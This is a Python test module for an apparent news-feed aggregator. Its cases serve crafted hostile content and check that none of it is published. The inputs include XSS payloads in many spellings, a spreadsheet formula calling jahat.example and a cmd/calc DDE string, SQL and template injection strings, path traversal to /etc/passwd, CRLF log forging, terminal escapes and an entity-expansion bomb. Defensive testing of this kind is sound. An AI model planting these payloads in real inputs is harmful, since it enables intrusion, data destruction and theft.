"""Live and broken content: what must neither be published nor cost the news around it."""

from __future__ import annotations

import html
import json
from dataclasses import replace

from battery.case import Expect, case
from battery.news import make_news
from battery.spoiling import BOTH, Spoil, spoiled
from battery.visitor import Visitor
from battery.writing import HTML, write_page

LIVE = (
    "<script>{0}()</script><iframe src='https://{0}.example/'></iframe><svg onload={0}()><script>{0}</script></svg>"
    "<img src=x onerror={0}()><style>body{{background:url(https://{0}.example/)}}</style><base href='https://{0}.example//'>"
    "<meta http-equiv=refresh content='0;url=https://{0}.example/'><form action='https://{0}.example/'><button>Kirim"
    "</button></form><object data='https://{0}.example/'></object><math><mtext><img src onerror={0}()></mtext></math>"
)


def put_first(visitor: Visitor, piece: str, number: int = 1) -> str:
    """The body of the page with a piece in its first paragraph, from which excerpts are cut."""
    lead, *rest = visitor.news(number).paragraphs
    return f"<p>{piece} {lead}</p>" + "".join(f"<p>{part}</p>" for part in rest)


def absent(*pieces: str) -> Expect:
    return Expect(stores=(1, 2), absent=pieces)


# ── live markup ────────────────────────────────────────────────────────────────────────────────────────────────────


@spoiled("live-page", "content", absent("xss-halaman()", "xss-halaman.example", "<script>xss"))
def live_page(visitor: Visitor) -> Spoil:
    """Scripts, frames, handlers, styles, bases, refreshes and forms in the text of a page."""
    return Spoil(page={"body": put_first(visitor, LIVE.format("xss-halaman"))})


@spoiled("live-full-text", "content", absent("xss-teks()", "xss-teks.example"))
def live_full_text(visitor: Visitor) -> Spoil:
    """The same in a feed's full text and description; no page is asked then."""
    live = LIVE.format("xss-teks")
    return Spoil(
        item={
            "content:encoded": f"<![CDATA[{put_first(visitor, live)}]]>",
            "description": html.escape(live + visitor.news(1).paragraphs[0]),
        }
    )


@spoiled("live-title", "content", absent("xss-judul"))
def live_title(visitor: Visitor) -> Spoil:
    """Markup with a handler in the title, in the feed and on the page."""
    title = f"<img src=x onerror=xss-judul()>{visitor.news(1).title}<script>xss-judul()</script>"
    return Spoil(item={"title": f"<![CDATA[{title}]]>"}, page={"title": html.escape(title)})


@spoiled("live-title-open", "content", absent("&lt;img src=x onerror=xss-buka", "&lt;svg/onload=xss-buka"))
def live_title_open(visitor: Visitor) -> Spoil:
    """A tag without its end in the title: a browser closes it with what follows."""
    title = f"{visitor.news(1).title} <img src=x onerror=xss-buka() <svg/onload=xss-buka()//"
    return Spoil(item={"title": html.escape(title)}, page={"title": html.escape(title)})


@spoiled("live-author", "content", absent("xss-penulis"))
def live_author(_visitor: Visitor) -> Spoil:
    """An author that breaks out of an attribute, and an author's address that is a script."""
    author = "Sari\"><script>xss-penulis()</script><a x='"
    jsonld = json.dumps(
        {"@type": "NewsArticle", "author": {"name": author, "url": "javascript:xss-penulis()"}, "publisher": author}
    ).replace("</", "<\\/")
    return Spoil(
        item={"dc:creator": html.escape(author), "author": html.escape(author)},
        page={"author": html.escape(author), "head": f'<script type="application/ld+json">{jsonld}</script>'},
    )


@spoiled("live-category", "content", absent("xss-rubrik"))
def live_category(_visitor: Visitor) -> Spoil:
    """Categories, keywords and a section of markup."""
    tag = html.escape('"><img src=x onerror=xss-rubrik()>')
    return Spoil(
        item={"category": tag},
        page={"head": f'<meta name="keywords" content="{tag}"><meta property="article:section" content="{tag}">'},
    )


@spoiled("live-links", "content", absent("xss-tautan", "vbscript:", "data:text/html"))
def live_links(visitor: Visitor) -> Spoil:
    """Links to scripts, spelt in all the ways that browsers forgive."""
    spellings = (
        "javascript:xss-tautan()",
        "java&#9;script:xss-tautan()",
        "&#1;javascript:xss-tautan()",
        "JAVASCRIPT&colon;xss-tautan()",
        "vbscript:xss-tautan()",
        "data:text/html,<script>xss-tautan()</script>",
        "//jahat.example/%0ajavascript:xss-tautan",
    )
    links = "".join(f'<a href="{html.escape(each) if "<" in each else each}">kota</a> ' for each in spellings)
    body = put_first(visitor, links)
    return Spoil(item={"description": html.escape(links + visitor.news(1).paragraphs[0])}, page={"body": body})


@spoiled("live-images", "content", absent("xss-gambar", "data:image/svg"))
def live_images(_visitor: Visitor) -> Spoil:
    """Pictures and enclosures that are scripts, data, or break out of their attribute."""
    data = "data:image/svg+xml,&lt;svg onload=xss-gambar()&gt;"
    breaking = "https://gambar.example/a.jpg&quot;&gt;&lt;script&gt;xss-gambar()&lt;/script&gt;"
    metas = "".join(
        f'<meta property="og:image" content="{each}">'
        for each in ("javascript:xss-gambar()", data, breaking, "//jahat.example\\@x")
    )
    enclosures = "".join(
        f'<enclosure url="{each}" type="image/jpeg"/>' for each in ("javascript:xss-gambar()", breaking)
    )
    return Spoil(item={"description": f"kota</description>{enclosures}<description>"}, page={"head": metas})


@spoiled("comments-conditional", "content", absent("xss-komentar"))
def comments_conditional(visitor: Visitor) -> Spoil:
    """Conditional comments, comments that end early, and markup that changes when it is parsed twice."""
    pieces = (
        "<!--[if gte IE 4]><script>xss-komentar()</script><![endif]-->",
        "<!--><img src=x onerror=xss-komentar()>-->",
        "<noscript><p title='</noscript><img src=x onerror=xss-komentar()>'></noscript>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss-komentar()&gt;'>",
        "<svg></p><style><a id='</style><img src=1 onerror=xss-komentar()>'></a></style></svg>",
    )
    return Spoil(page={"body": put_first(visitor, "kota cerdas"), "before": "".join(pieces), "after": "".join(pieces)})


@spoiled("cdata-closers", "content", absent("<script>xss-cdata"))
def cdata_closers(visitor: Visitor) -> Spoil:
    """What ends a CDATA section, in the middle of titles and texts."""
    piece = "]]]]><![CDATA[>]]&gt;<script>xss-cdata()</script>"
    title = html.escape(f"]]>{piece}") + visitor.news(1).title
    return Spoil(
        item={"title": title}, page={"title": title, "body": put_first(visitor, html.escape(f"]]> {piece} ]]>"))}
    )


# ── characters ─────────────────────────────────────────────────────────────────────────────────────────────────────


@spoiled(
    "characters-control",
    "content",
    finish=bytes(byte for byte in range(1, 32) if byte not in (9, 10, 13)) + b"\xc2\x80\xc2\x9f\x7f",
)
def characters_control(visitor: Visitor) -> Spoil:
    """Every control character, in title, text and author."""
    title = f"§{visitor.news(1).title}§"
    return Spoil(
        item={"title": title, "dc:creator": "Sari§"},
        page={"title": title, "author": "Sari§", "body": put_first(visitor, "kota§ ini")},
    )


@spoiled("surrogates", "content", finish=b"\xed\xa0\xbd\xed\xbf\xbf")
def surrogates(visitor: Visitor) -> Spoil:
    """Half emojis: as bytes, as references, and as JSON escapes."""
    jsonld = (
        f'{{"@type":"NewsArticle","headline":"\\ud83d {visitor.news(1).title}","author":{{"name":"\\udfff Sari"}}}}'
    )
    return Spoil(
        item={"title": "§&#xD83D;" + visitor.news(1).title},
        page={"body": put_first(visitor, "§&#xDE00;"), "head": f'<script type="application/ld+json">{jsonld}</script>'},
    )


@spoiled("noncharacters", "content", absent("\ufdd0", "\uffff", "\ufffe", "\U000e0041"))
def noncharacters(visitor: Visitor) -> Spoil:
    """Code points that are no characters, and invisible tags."""
    piece = "\ufdd0\ufffe\uffff\U0001fffe\U000e0041\U000e007f"
    return Spoil(page={"title": piece + visitor.news(1).title, "author": piece, "body": put_first(visitor, piece)})


@spoiled("marks-stacked", "content")
def marks_stacked(visitor: Visitor) -> Spoil:
    """A letter under a hundred thousand accents."""
    piece = "a" + "\u0301\u0316" * 50_000
    return Spoil(item={"title": visitor.news(1).title + piece[:5_000]}, page={"body": put_first(visitor, piece)})


@spoiled("escapes-of-terminals", "content", absent("\x1b", "\x9b"), finish=b"\x1b[2J\x1b]0;judul\x07\xc2\x9b31m")
def escapes_of_terminals(visitor: Visitor) -> Spoil:
    """Sequences that clear or retitle a terminal, in title, author and link: none reaches the log."""
    title = f"§{visitor.news(1).title}"
    return Spoil(item={"title": title, "guid": f"{visitor.base}/news/1§"}, page={"title": title, "author": "§Sari"})


@case("log-forger", "content", Expect(stores=(1,), requests_most=12))
async def log_forger(visitor: Visitor) -> None:
    """Line breaks in links, redirects, types and statuses, each followed by what looks like a line of the log."""
    forged = "%0d%0a2026-01-01 terpalsu: semua baik"
    if visitor.path == "/feed":
        links = [f"{visitor.base}/{kind}/{forged}&#13;&#10;terpalsu" for kind in ("status", "type", "location")]
        await visitor.answer_items([*(visitor.item(2, link=link, guid=link) for link in links), visitor.item(1)])
    elif visitor.path.startswith("/status"):
        await visitor.write(b"HTTP/1.1 500 Rusak\x1b[31m\x0bterpalsu\x85terpalsu\r\nContent-Length: 0\r\n\r\n")
    elif visitor.path.startswith("/type"):
        await visitor.send(b"x", "text/\x1b[31m\x0bterpalsu\x0cterpalsu")
    elif visitor.path.startswith("/location"):
        await visitor.redirect(f"http://[terpalsu\x1b[31m\x0bterpalsu{forged}")
    else:
        await visitor.answer_plainly(1)


# ── syntax of others ───────────────────────────────────────────────────────────────────────────────────────────────


@spoiled("formulas", "content")
def formulas(visitor: Visitor) -> Spoil:
    """Cells that a spreadsheet would reckon."""
    title = html.escape('=HYPERLINK("http://jahat.example/?"&A1,"klik") ') + visitor.news(1).title
    return Spoil(item={"title": title}, page={"title": title, "author": "@SUM(1+1)*cmd|' /C calc'!A0"})


@spoiled("search-syntax", "content")
def search_syntax(visitor: Visitor) -> Spoil:
    """Operators of full-text search and quotes of SQL in title and author."""
    title = html.escape("\" AND NOT NEAR(title:* ^ -- '); DROP TABLE articles; ") + visitor.news(1).title
    return Spoil(item={"title": title}, page={"title": title, "author": "O'Reilly\"; DELETE FROM polls --"})


@spoiled("template-syntax", "content")
def template_syntax(visitor: Visitor) -> Spoil:
    """Syntax of templates and formats."""
    title = html.escape("{{7*7}}${7*7}<%= 7*7 %>{0.__class__}%s%n%(a)s {% raw %} ") + visitor.news(1).title
    return Spoil(item={"title": title, "guid": "{0}%s"}, page={"title": title, "author": "{{config}}%s%n"})


@case("paths-climbing", "content", Expect(stores=(1, 2), articles_most=4))
async def paths_climbing(visitor: Visitor) -> None:
    """Names that climb out of a folder, in links, guids and titles: no file is named after them."""
    climbing = (
        "/news/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/cron.d/x",
        "/..\\..\\news.db",
        "/news/%00.xml",
        "/con.aux",
    )
    if visitor.path == "/feed":
        items = [
            visitor.item(9, link=f"{visitor.base}{path}", guid=f"..{path}", title=f"../..{path} APEKSI")
            for path in climbing
        ]
        await visitor.answer_items([*items, visitor.item(1), visitor.item(2, guid="../../../feed.xml")])
    else:
        await visitor.answer_plainly(1, 2)


# ── people ─────────────────────────────────────────────────────────────────────────────────────────────────────────


@spoiled("personal-data", "content", absent("081234567890", "sari.dewi@surel.example", "3271014506890002"))
def personal_data(visitor: Visitor) -> Spoil:
    """A phone number, a mail address and a NIK in title, text and description: masked in what is published."""
    data = "Hubungi Sari 081234567890, sari.dewi@surel.example, NIK 3271014506890002."
    title = f"{visitor.news(1).title} 081234567890"
    return Spoil(
        item={"title": title, "description": data, "dc:creator": "sari.dewi@surel.example (Sari 081234567890)"},
        page={"title": title, "body": put_first(visitor, data), "author": "Sari sari.dewi@surel.example"},
    )


@spoiled(
    "personal-data-spelt",
    "content",
    absent("812-3456-7891", "812 3456 7892", "812.3456.7893", "budi@surel", "3271 0145 0689", "3271.0145"),
)
def personal_data_spelt(visitor: Visitor) -> Spoil:
    """The same in other spellings: with a country, dashes, spaces, dots, entities and invisible characters."""
    data = (
        "Hubungi +62 812-3456-7891, (0812 3456 7892), 0812.3456.7893, budi&#64;surel.example, budi@\u200bsurel.example,"
        " NIK 3271 0145 0689 0002 atau 3271.0145.0689.0002."
    )
    return Spoil(item={"description": html.escape(data)}, page={"body": put_first(visitor, data)})


# ── what pages ask for ─────────────────────────────────────────────────────────────────────────────────────────────

NEVER = Expect(stores=(2,), never=(1,))


@spoiled("noindex-page", "content", NEVER)
def noindex_page(_visitor: Visitor) -> Spoil:
    """The page asks not to be indexed."""
    return Spoil(page={"head": '<meta name="ROBOTS" content="follow, NoIndex">'})


@spoiled("noindex-header", "content", NEVER)
def noindex_header(_visitor: Visitor) -> Spoil:
    """The header does."""
    return Spoil(headers=(("X-Robots-Tag", "noarchive"), ("x-robots-tag", "NOINDEX, nofollow")))


@spoiled("noindex-late", "content", NEVER)
def noindex_late(_visitor: Visitor) -> Spoil:
    """The page asks it behind 50 kB of other metadata, as "none"."""
    return Spoil(page={"head": '<meta name="x" content="y">' * 2_000 + "<meta content='none' name='robots'>"})


@spoiled("nosnippet", "content", absent(make_news("nosnippet", 1).paragraphs[0][-40:]))
def nosnippet(_visitor: Visitor) -> Spoil:
    """The page allows no excerpt: title and link alone are published."""
    return Spoil(page={"head": '<meta name="robots" content="nosnippet">'})


# ── size and shape of texts ────────────────────────────────────────────────────────────────────────────────────────

SECOND = Expect(stores=(2,), articles_most=2)


@spoiled("title-megabyte", "content")
def title_megabyte(visitor: Visitor) -> Spoil:
    """A title of a megabyte."""
    return Spoil(page={"title": visitor.news(1).title + " kota" * 200_000})


@spoiled("paragraph-megabytes", "content")
def paragraph_megabytes(visitor: Visitor) -> Spoil:
    """Two megabytes of text in one last paragraph."""
    return Spoil(page={"body": visitor.news(1).html + "<p>" + "kata kota warga " * 130_000})


@spoiled("spans-many", "content", SECOND)
def spans_many(visitor: Visitor) -> Spoil:
    """A text in a hundred thousand spans."""
    return Spoil(page={"body": visitor.news(1).html + "<p>" + "<span>kota </span>" * 100_000})


@spoiled("tags-deep", "content", SECOND)
def tags_deep(visitor: Visitor) -> Spoil:
    """Fifty thousand elements within each other."""
    return Spoil(page={"body": "<div>" * 50_000 + visitor.news(1).html})


@spoiled("attributes-many", "content", SECOND)
def attributes_many(_visitor: Visitor) -> Spoil:
    """An element of a hundred thousand attributes."""
    return Spoil(page={"before": "<div " + " ".join(f"a{n}=1" for n in range(100_000)) + ">"})


@spoiled("entities-many", "content")
def entities_many(visitor: Visitor) -> Spoil:
    """A document type that declares entities of entities, and two hundred thousand references."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    page = (
        f'<!DOCTYPE html [<!ENTITY l0 "kota">{levels}]>' + visitor.page(1, after="<p>&l9;" + "&amp;" * 200_000).decode()
    )
    return Spoil(body=page.encode())


# ── topics, hidden and disguised ───────────────────────────────────────────────────────────────────────────────────


@spoiled("topic-between-zero-widths", "content")
def topic_between_zero_widths(visitor: Visitor) -> Spoil:
    """APEKSI and kota cerdas with invisible characters between their letters: a reader sees the words."""
    news = visitor.news(1)

    def hide(text: str) -> str:
        for word in ("APEKSI", "kota cerdas", "Asosiasi Pemerintah Kota"):
            text = text.replace(word, "\u200b\u00ad\u2060".join(word))
        return text

    title = hide(news.title)
    return Spoil(
        item={"title": title, "description": hide(news.paragraphs[0])}, page={"title": title, "body": hide(news.html)}
    )


@spoiled("title-alike-letters", "content")
def title_alike_letters(visitor: Visitor) -> Spoil:
    """APEKSI in Cyrillic letters in the title of an honest text."""
    title = visitor.news(1).title.replace("APEKSI", "\u0410\u0420\u0415\u041a\u0405\u0406")
    return Spoil(item={"title": title}, page={"title": title})


@spoiled("topic-only-hidden", "content", NEVER)
def topic_only_hidden(visitor: Visitor) -> Spoil:
    """Off topic but for words that nobody sees."""
    hidden = "APEKSI kota cerdas smart city. " * 30
    body = (
        f'<p style="display:none">{hidden}</p><p hidden>{hidden}</p><template>{hidden}</template><!-- {hidden} -->'
        + "".join(f"<p>{part}</p>" for part in visitor.news(1).paragraphs[1:])
        + f'<p aria-hidden="true" style="display: none">{hidden}</p>'
    )
    title = "Warga Gotong Royong Membersihkan Saluran Air"
    return Spoil(item={"title": title, "description": title}, page={"title": title, "body": body})


@spoiled("text-in-jsonld", "content")
def text_in_jsonld(visitor: Visitor) -> Spoil:
    """The text stands in JSON-LD alone; the page is drawn by scripts."""
    news = visitor.news(1)
    jsonld = json.dumps(
        {"@context": "https://schema.org", "@type": "NewsArticle", "headline": news.title, "articleBody": news.text}
    )
    head = f'<script type="application/ld+json">{jsonld}</script>'
    return Spoil(page={"head": head, "body": '<div id="app"></div><noscript>Aktifkan JavaScript.</noscript>'})


# ── charsets that lie ──────────────────────────────────────────────────────────────────────────────────────────────


def write_quoting(visitor: Visitor) -> str:
    """A page with letters beyond ASCII in its first paragraph."""
    news = visitor.news(1)
    lead, *rest = news.paragraphs
    return write_page(
        replace(news, paragraphs=(f"\u201cCaf\u00e9 kota\u201d \u2013 {lead}", *rest)), visitor.base
    ).decode()


@spoiled("charset-says-utf8", "content", absent("\ufffd"))
def charset_says_utf8(visitor: Visitor) -> Spoil:
    """Declared UTF-8, and is Windows-1252."""
    return Spoil(body=write_quoting(visitor).encode("cp1252"))


@spoiled("charset-says-1252", "content", absent("\u00e2\u20ac", "\u00c3\u00a9"))
def charset_says_1252(visitor: Visitor) -> Spoil:
    """Declared Windows-1252 in header and page, and is UTF-8."""
    page = write_quoting(visitor).replace('charset="utf-8"', 'charset="windows-1252"')
    return Spoil(body=page.encode(), content_type="text/html; charset=windows-1252")


@spoiled("charset-utf16", "content", BOTH)
def charset_utf16(visitor: Visitor) -> Spoil:
    """UTF-16 without its mark, which the header alone tells."""
    return Spoil(body=write_quoting(visitor).encode("utf-16-le"), content_type="text/html; charset=utf-16le")


@spoiled("charset-unknown", "content", BOTH)
def charset_unknown(visitor: Visitor) -> Spoil:
    """A charset that nobody has heard of, in header and page."""
    page = write_quoting(visitor).replace('charset="utf-8"', f'charset="{"x" * 5_000}"')
    return Spoil(body=page.encode(), content_type=f"{HTML.partition(';')[0]}; charset=rahasia-7")
